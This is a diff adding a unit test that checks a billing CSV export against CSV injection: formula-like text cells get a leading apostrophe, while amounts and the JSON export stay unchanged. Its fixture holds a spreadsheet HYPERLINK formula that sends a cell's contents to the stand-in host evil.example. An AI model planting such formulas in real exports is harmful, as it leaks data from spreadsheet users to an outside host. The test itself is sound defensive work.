@@ -208,3 +208,19 @@ def test_every_column_is_documented() -> None:
     section = DOC.read_text(encoding="utf-8").split("\n## Accounting export\n", 1)[1].split("\n## ", 1)[0]
     documented = re.findall(r"^\| `([a-z_]+)` \|", section, re.M)
     assert documented == list(CSV_COLUMNS)
+
+
+def test_a_text_cell_a_spreadsheet_would_run_is_written_as_text() -> None:
+    """A payer's purpose text or a subscriber's name that starts like a formula gets a leading apostrophe in
+    the CSV (CSV injection); amounts, negative ones included, and the JSON export keep their values."""
+    from billcore.clients.billctl_export import MONEY, csv_line, json_row
+    row: dict[str, Any] = {column: None for column in CSV_COLUMNS if not column.endswith("_micro")}
+    row.update({key: -10_500_000 for key in MONEY})
+    row.update({"record": "payment", "customer_name": '=HYPERLINK("http://evil.example/?"&A1,"pay")',
+                "text": "@SUM(1+1)", "operator": "-2+3", "customer_login": "+79990001122"})
+    cells = dict(zip(CSV_COLUMNS, csv_line(row, "RUB", 2)))
+    assert cells["customer_name"] == "'" + row["customer_name"]
+    assert cells["text"] == "'@SUM(1+1)" and cells["operator"] == "'-2+3"
+    assert cells["customer_login"] == "+79990001122"            # a number (a phone-like login) stays itself
+    assert all(cells[key] == "-10.50" for key in MONEY) and all(cells[f"{key}_micro"] == "-10500000" for key in MONEY)
+    assert json_row(row, "RUB", 2)["customer_name"] == row["customer_name"]
